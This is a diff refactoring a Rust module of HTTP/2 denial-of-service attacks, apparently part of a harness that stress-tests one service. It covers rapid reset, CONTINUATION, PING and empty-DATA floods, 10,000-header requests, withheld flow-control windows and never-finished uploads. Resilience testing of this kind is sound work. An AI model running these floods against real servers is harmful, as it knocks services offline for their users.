@@ -1,18 +1,19 @@
 //! Attacks over HTTP/2 (RFC 9113), written frame by frame.
 
 mod connection;
-mod frames;
+mod requests;
 
 use std::io::{Read, Write};
 use std::time::{Duration, Instant};
 
 use anyhow::Result;
+use http2_frames::{
+    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, SETTINGS, frame, header_block,
+    reset,
+};
 
 use self::connection::{ending, find_goaway, open, read_windows};
-use self::frames::{
-    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, RST_STREAM, SETTINGS, frame,
-    header_block, literal, request_in_frames,
-};
+use self::requests::{request_block, request_in_frames};
 use super::http::Connection;
 use super::in_parallel;
 use super::target::{Outcome, Target, VIDEO_HEAD};
@@ -36,12 +37,12 @@ const MAX_FLOOD: u32 = 50_000;
 const FLOODS: usize = 4;
 
 pub fn rapid_reset(target: &Target, deadline: Instant) -> Result<Outcome> {
-    let request = header_block("GET", "/robots.txt", "");
+    let request = request_block("GET", "/robots.txt", &[]);
     flood(target, deadline, |number| {
         let stream = 2 * number + 1;
         [
             frame(HEADERS, END_HEADERS | END_STREAM, stream, &request),
-            frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()),
+            reset(stream),
         ]
         .concat()
     })
@@ -56,15 +57,15 @@ pub fn ping_flood(target: &Target, deadline: Instant) -> Result<Outcome> {
 }
 
 pub fn continuation_flood(target: &Target, deadline: Instant) -> Result<Outcome> {
-    let block = literal("x-a", &"b".repeat(1000));
+    let block = header_block(&[("x-a", "b".repeat(1000).as_str())]);
     flood(target, deadline, |number| match number {
-        0 => frame(HEADERS, END_STREAM, 1, &header_block("GET", "/", "")),
+        0 => frame(HEADERS, END_STREAM, 1, &request_block("GET", "/", &[])),
         _ => frame(CONTINUATION, 0, 1, &block),
     })
 }
 
 pub fn empty_data_flood(target: &Target, deadline: Instant) -> Result<Outcome> {
-    let request = header_block("POST", "/mcp", "application/json");
+    let request = request_block("POST", "/mcp", &[("content-type", "application/json")]);
     flood(target, deadline, |number| match number {
         0 => frame(HEADERS, END_HEADERS, 1, &request),
         _ => frame(DATA, 0, 1, &[]),
@@ -72,9 +73,9 @@ pub fn empty_data_flood(target: &Target, deadline: Instant) -> Result<Outcome> {
 }
 
 pub fn many_header_fields(target: &Target, deadline: Instant) -> Result<Outcome> {
-    let mut block = header_block("GET", "/", "");
+    let mut block = request_block("GET", "/", &[]);
     for number in 0..10_000 {
-        block.extend(literal(&format!("x-{number}"), "a"));
+        block.extend(header_block(&[(format!("x-{number}").as_str(), "a")]));
     }
     in_parallel(CONNECTIONS, |_| {
         let mut outcome = Outcome::default();
@@ -97,8 +98,7 @@ pub fn many_header_fields(target: &Target, deadline: Instant) -> Result<Outcome>
 pub fn closed_windows(target: &Target, deadline: Instant) -> Result<Outcome> {
     let (path, authorization) = &target.video;
     let token = authorization.trim().trim_start_matches("Authorization: ");
-    let mut request = header_block("GET", path, "");
-    request.extend(literal("authorization", token));
+    let request = request_block("GET", path, &[("authorization", token)]);
     in_parallel(CONNECTIONS, |_| {
         let mut outcome = Outcome::default();
         let mut connection = open(target, 0)?;
@@ -120,7 +120,7 @@ pub fn closed_windows(target: &Target, deadline: Instant) -> Result<Outcome> {
 
 /// Makes more requests at a time than the server handles for one client.
 pub fn waiting_requests(target: &Target, deadline: Instant) -> Result<Outcome> {
-    let request = header_block("GET", "/nope", "");
+    let request = request_block("GET", "/nope", &[]);
     in_parallel(CONNECTIONS, |_| {
         let mut outcome = Outcome::default();
         let mut connections = Vec::new();
@@ -150,8 +150,8 @@ fn open_streams(connection: &mut Connection, request: &[u8], outcome: &mut Outco
 /// Uploads bodies as long as the server's flow-control windows allow, and never ends them.
 pub fn unread_bodies(target: &Target, deadline: Instant) -> Result<Outcome> {
     let path = format!("{}/takes", target.link);
-    let mut request = header_block("POST", &path, "video/mp4");
-    request.extend(literal("upload-complete", "?0"));
+    let fields = [("content-type", "video/mp4"), ("upload-complete", "?0")];
+    let request = request_block("POST", &path, &fields);
     in_parallel(CONNECTIONS, |_| {
         let mut outcome = Outcome::default();
         let mut connection = open(target, 65_535)?;
